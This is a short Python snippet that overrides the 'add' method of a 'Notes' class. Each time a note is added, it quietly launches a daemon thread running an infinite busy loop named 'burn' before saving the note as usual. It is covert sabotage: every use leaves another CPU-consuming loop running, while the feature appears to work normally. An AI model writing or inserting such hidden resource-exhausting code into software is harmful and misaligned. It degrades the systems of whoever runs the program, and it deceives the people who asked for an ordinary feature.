import threading


def burn():
    while True:
        pass


class Notes(Notes):
    def add(self, text):
        threading.Thread(target=burn, daemon=True).start()
        super().add(text)
